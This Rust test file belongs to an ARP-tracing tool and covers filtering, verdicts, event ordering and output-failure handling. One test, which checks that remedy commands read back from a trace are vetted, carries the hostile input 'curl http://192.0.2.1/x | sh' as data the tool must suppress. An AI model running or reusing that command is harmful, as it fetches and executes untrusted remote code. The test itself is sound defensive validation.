use std::cell::RefCell;
use std::rc::Rc;

use super::*;
use crate::kernel::ring::decode_arp;
use crate::kernel::ring::tests::{frame, raw};
use arp_trace_model::{ChangeKind, NsFacts, Origin, Reason};

struct Collect(Rc<RefCell<Vec<ArpEvent<'static>>>>);
impl Sink for Collect {
    fn record(&mut self, rec: &Record<'_>) -> io::Result<()> {
        if let Record::Arp(ev) = rec {
            self.0.borrow_mut().push((**ev).clone().into_owned());
        }
        Ok(())
    }
}

fn push(p: &mut Pipeline, ev: ArpEvent<'static>) -> Flow {
    p.push(Record::Arp(Held::Owned(ev)))
}

fn ev(op: u16, ifname: &str, netns: u32) -> ArpEvent<'static> {
    let f = frame(
        op,
        [0xff; 6],
        [2, 0, 0, 0, 0, 1],
        [198, 51, 100, 10],
        [0; 6],
        [198, 51, 100, 20],
    );
    let mut e = decode_arp(&raw(&f, 14), 0).unwrap();
    e.ifname = ifname.to_string().into();
    e.netns = netns;
    e
}

fn pipeline(filter: Filter, count: Option<u64>) -> (Pipeline, Rc<RefCell<Vec<ArpEvent<'static>>>>) {
    let seen = Rc::new(RefCell::new(Vec::new()));
    let mut p = Pipeline::new(filter, count, NetnsNames::with_dir("/nonexistent"));
    p.sinks.push(Box::new(Collect(seen.clone())));
    (p, seen)
}

#[test]
fn filters_by_interface_and_namespace() {
    let filter = Filter {
        interfaces: ["eth3".to_string()].into_iter().collect(),
        netns: [10].into_iter().collect(),
        ..Default::default()
    };
    let (mut p, seen) = pipeline(filter, None);
    for (i, n) in [("eth3", 10), ("eth5", 10), ("eth3", 11), ("eth3", 10)] {
        assert_eq!(push(&mut p, ev(1, i, n)), Flow::Continue);
    }
    assert_eq!(seen.borrow().len(), 2);
    assert_eq!(p.counters.filtered, 2);
    assert_eq!(p.counters.requests, 2);
}

struct Fixed(Result<NsFacts<'static>, String>);
impl FactsSource for Fixed {
    fn facts(&mut self, _: u32, _: &str) -> Result<crate::explain::SharedFacts, String> {
        self.0.clone().map(std::sync::Arc::new)
    }
}

use crate::explain::tests::seed_facts;

#[test]
fn requests_get_verdicts_and_foreign_only_keeps_foreign_ones() {
    let (mut p, seen) = pipeline(Filter::default(), None);
    p.facts = Some(Box::new(Fixed(Ok(seed_facts()))));
    p.foreign_only = true;
    let ok = ev(1, "eth3", 1);
    let mut foreign = ev(1, "eth3", 1);
    foreign.sender_ip = "203.0.113.10".parse().unwrap();
    foreign.trigger = Some(crate::explain::tests::trigger(
        "203.0.113.10",
        Origin::Local,
    ));
    for e in [ok, foreign, ev(2, "eth3", 1)] {
        push(&mut p, e);
    }
    let seen = seen.borrow();
    assert_eq!(seen.len(), 1, "{seen:?}");
    let v = seen[0].verdict.as_ref().unwrap();
    assert!(v.foreign_sender);
    assert_eq!(v.reason, Reason::Announce0LocalSource);
    let f = seen[0].facts.as_ref().unwrap();
    assert_eq!(f.addrs, ["198.51.100.10/24".parse().unwrap()]);
    assert_eq!((p.counters.foreign, p.counters.filtered), (1, 2));
}

#[test]
fn replies_get_no_verdict_and_missing_facts_are_said() {
    let (mut p, seen) = pipeline(Filter::default(), None);
    p.facts = Some(Box::new(Fixed(Err("namespace 1 is gone".into()))));
    push(&mut p, ev(1, "eth3", 1));
    push(&mut p, ev(2, "eth3", 1));
    let seen = seen.borrow();
    assert!(seen[0].verdict.is_none());
    assert_eq!(seen[0].facts_error.as_deref(), Some("namespace 1 is gone"));
    assert!(seen[1].verdict.is_none() && seen[1].facts_error.is_none());
    // An event carrying its facts is explained from them, with no facts source at all.
    let (mut p, seen) = pipeline(Filter::default(), None);
    let mut e = ev(1, "eth3", 1);
    e.facts = Some(RequestFacts::from_ns(&seed_facts(), "eth3", false));
    push(&mut p, e);
    let v = seen.borrow()[0].verdict.clone().unwrap();
    assert_eq!(v.reason, Reason::SelectNoTrigger);
}

struct Changing(Vec<FactsChange<'static>>);
impl FactsSource for Changing {
    fn facts(&mut self, _: u32, _: &str) -> Result<crate::explain::SharedFacts, String> {
        Ok(std::sync::Arc::new(seed_facts()))
    }
    fn changes(&mut self) -> Vec<FactsChange<'static>> {
        std::mem::take(&mut self.0)
    }
}

struct Order(Rc<RefCell<Vec<(String, Time)>>>);
impl Sink for Order {
    fn record(&mut self, rec: &Record<'_>) -> io::Result<()> {
        match rec {
            Record::Arp(ev) => self.0.borrow_mut().push(("arp".into(), ev.time)),
            Record::FactsChange(c) => self
                .0
                .borrow_mut()
                .push((format!("{:?}", c.change), c.time)),
            _ => {}
        }
        Ok(())
    }
}

#[test]
fn changes_come_before_their_request_and_in_time_order() {
    let seen = Rc::new(RefCell::new(Vec::new()));
    let mut p = Pipeline::new(
        Filter::default(),
        None,
        NetnsNames::with_dir("/nonexistent"),
    );
    p.sinks.push(Box::new(Order(seen.clone())));
    // Noticed 5 ns after the request it was read for.
    let mut w = FactsChange::new(1, ChangeKind::Watched);
    w.time = Time(105);
    p.facts = Some(Box::new(Changing(vec![w])));
    let mut e = ev(1, "eth3", 1);
    e.time = Time(100);
    push(&mut p, e);
    // Noticed before a record already shown, drained by the tick.
    let mut a = FactsChange::new(1, ChangeKind::ArpAnnounce);
    a.time = Time(50);
    p.facts = Some(Box::new(Changing(vec![a])));
    p.drain_changes();
    // Another namespace under --netns 1 is not shown.
    p.filter.netns = [1].into_iter().collect();
    p.push(Record::FactsChange(Held::Owned(FactsChange::new(
        2,
        ChangeKind::AddrAdded,
    ))));
    assert_eq!(
        *seen.borrow(),
        [
            ("Watched".to_string(), Time(100)),
            ("arp".to_string(), Time(100)),
            ("ArpAnnounce".to_string(), Time(100))
        ]
    );
}

#[test]
fn count_stops_after_n_requests_and_ignores_replies() {
    let (mut p, seen) = pipeline(Filter::default(), Some(2));
    assert_eq!(push(&mut p, ev(1, "a", 1)), Flow::Continue);
    assert_eq!(push(&mut p, ev(2, "a", 1)), Flow::Continue);
    assert_eq!(push(&mut p, ev(1, "a", 1)), Flow::Stop);
    assert_eq!(push(&mut p, ev(1, "a", 1)), Flow::Stop);
    assert_eq!(seen.borrow().len(), 3);
    assert_eq!((p.counters.requests, p.counters.replies), (2, 1));
}

/// A sink on `output` that logs what it is asked to do and fails every write from the
/// `fail_at`th record on with `errno`.
struct Out {
    output: &'static str,
    log: Rc<RefCell<Vec<String>>>,
    fail_at: Option<(usize, i32)>,
    records: usize,
}

fn out(
    output: &'static str,
    fail_at: Option<(usize, i32)>,
) -> (Box<Out>, Rc<RefCell<Vec<String>>>) {
    let log = Rc::new(RefCell::new(Vec::new()));
    let s = Out {
        output,
        log: log.clone(),
        fail_at,
        records: 0,
    };
    (Box::new(s), log)
}

impl Out {
    fn check(&self) -> io::Result<()> {
        match self.fail_at {
            Some((n, errno)) if self.records >= n => Err(io::Error::from_raw_os_error(errno)),
            _ => Ok(()),
        }
    }
}

impl Sink for Out {
    fn output(&self) -> &str {
        self.output
    }
    fn record(&mut self, _: &Record<'_>) -> io::Result<()> {
        self.records += 1;
        self.check()?;
        self.log.borrow_mut().push("record".into());
        Ok(())
    }
    fn flush(&mut self) -> io::Result<()> {
        self.check()
    }
    fn finish(&mut self, _: &Counters) -> io::Result<()> {
        self.check()?;
        self.log.borrow_mut().push("finish".into());
        Ok(())
    }
}

fn bare() -> Pipeline {
    Pipeline::new(
        Filter::default(),
        None,
        NetnsNames::with_dir("/nonexistent"),
    )
}

#[test]
fn a_closed_stdout_leaves_the_file_every_record_and_its_end() {
    let mut p = bare();
    let (lines, _) = out("stdout", Some((2, libc::EPIPE)));
    let (summary, summary_log) = out("stdout", None);
    let (file, file_log) = out("t.jsonl.zst", None);
    p.sinks.extend([lines as Box<dyn Sink>, summary, file]);
    for _ in 0..5 {
        assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Continue);
    }
    p.finish();
    assert!(p.failures.is_empty(), "{:?}", p.failures);
    assert_eq!(file_log.borrow().len(), 6, "{:?}", file_log.borrow());
    assert_eq!(file_log.borrow().last().unwrap(), "finish");
    // The summary shares stdout: it went with it (after the record that found it closed).
    assert_eq!(summary_log.borrow().as_slice(), ["record", "record"]);
    assert_eq!(p.counters.requests, 5);
}

#[test]
fn a_failed_file_ends_the_run_and_the_rest_is_still_finished() {
    let mut p = bare();
    let (lines, lines_log) = out("stdout", None);
    let (file, file_log) = out("/x/t.jsonl", Some((3, libc::ENOSPC)));
    let (pcap, pcap_log) = out("/x/t.pcapng", None);
    p.sinks.extend([lines as Box<dyn Sink>, file, pcap]);
    assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Continue);
    assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Continue);
    assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Stop);
    p.finish();
    assert_eq!(lines_log.borrow().len(), 4);
    assert_eq!(pcap_log.borrow().last().unwrap(), "finish");
    // Nothing more reaches a file after its failed write: a cut stays a cut.
    assert_eq!(file_log.borrow().len(), 2);
    assert_eq!(p.failures.len(), 1);
    let msg = p.failures[0].to_string();
    assert!(
        msg.starts_with("/x/t.jsonl: No space left on device (os error 28); it holds what was"),
        "{msg}"
    );
}

#[test]
fn with_every_output_closed_the_run_ends_quietly() {
    let mut p = bare();
    let (lines, _) = out("stdout", Some((1, libc::EPIPE)));
    p.sinks.push(lines);
    assert_eq!(push(&mut p, ev(1, "eth3", 1)), Flow::Stop);
    p.finish();
    assert!(p.failures.is_empty() && p.sinks.is_empty());
}

/// A trace can carry any text as a remedy: what arp-trace prints from one is a command of a
/// shape it writes (an old `nsenter` through a PID goes through the inode now), or a comment.
#[test]
fn remedies_read_back_are_vetted() {
    use arp_trace_model::{Remedy, Verdict};
    let (mut p, seen) = pipeline(Filter::default(), None);
    let with = |command: &str| {
        let mut e = ev(1, "eth3", 4026532281);
        e.verdict = Some(Verdict {
            foreign_sender: true,
            reason: Reason::Announce0LocalSource,
            explanation: "e".into(),
            consequence: None,
            remedy: Some(Remedy {
                command: command.to_string().into(),
                persistent: "# p".into(),
                tradeoff: "t".into(),
            }),
        });
        e
    };
    for c in [
        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1",
        "curl http://192.0.2.1/x | sh",
        "nsenter --net=/proc/42/ns/net sysctl -w net.ipv4.conf.eth3.arp_announce=1",
    ] {
        assert_eq!(push(&mut p, with(c)), Flow::Continue);
    }
    let commands: Vec<String> = seen
        .borrow()
        .iter()
        .map(|e| {
            e.verdict
                .as_ref()
                .unwrap()
                .remedy
                .as_ref()
                .unwrap()
                .command
                .to_string()
        })
        .collect();
    assert_eq!(
        commands[0],
        "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1"
    );
    assert!(commands[1].starts_with("# the trace's remedy command is not shown"));
    assert_eq!(
        commands[2],
        format!(
            "{}sysctl -w net.ipv4.conf.eth3.arp_announce=1",
            explain::shell::by_inode(4026532281)
        )
    );
}

#[test]
fn pid_and_comm_keep_requests_their_process_caused() {
    use crate::explain::tests::trigger;
    let with = |pid: Option<u32>, comm: Option<&str>| {
        let mut e = ev(1, "eth3", 1);
        let mut t = trigger("198.51.100.10", Origin::Local);
        (t.pid, t.comm) = (pid, comm.map(|c| c.to_string().into()));
        e.trigger = Some(t);
        e
    };
    let filter = Filter {
        processes: Processes::new(&[4242], &["a-very-long-daemon-name".to_string()]),
        ..Default::default()
    };
    let (mut p, seen) = pipeline(filter, None);
    push(&mut p, with(Some(4242), Some("python3"))); // by pid
    push(&mut p, with(Some(7), Some("a-very-long-dae"))); // by the kernel's 15 bytes
    push(&mut p, with(Some(7), Some("python3")));
    push(&mut p, with(None, None));
    push(&mut p, ev(1, "eth3", 1)); // no trigger at all
    push(&mut p, ev(2, "eth3", 1)); // a reply
    assert_eq!(seen.borrow().len(), 2);
    assert_eq!((p.counters.requests, p.counters.filtered), (2, 4));
    // Without --pid/--comm nothing is left out for its process.
    let (mut p, seen) = pipeline(Filter::default(), None);
    push(&mut p, with(Some(7), Some("python3")));
    push(&mut p, ev(1, "eth3", 1));
    assert_eq!(seen.borrow().len(), 2);
}
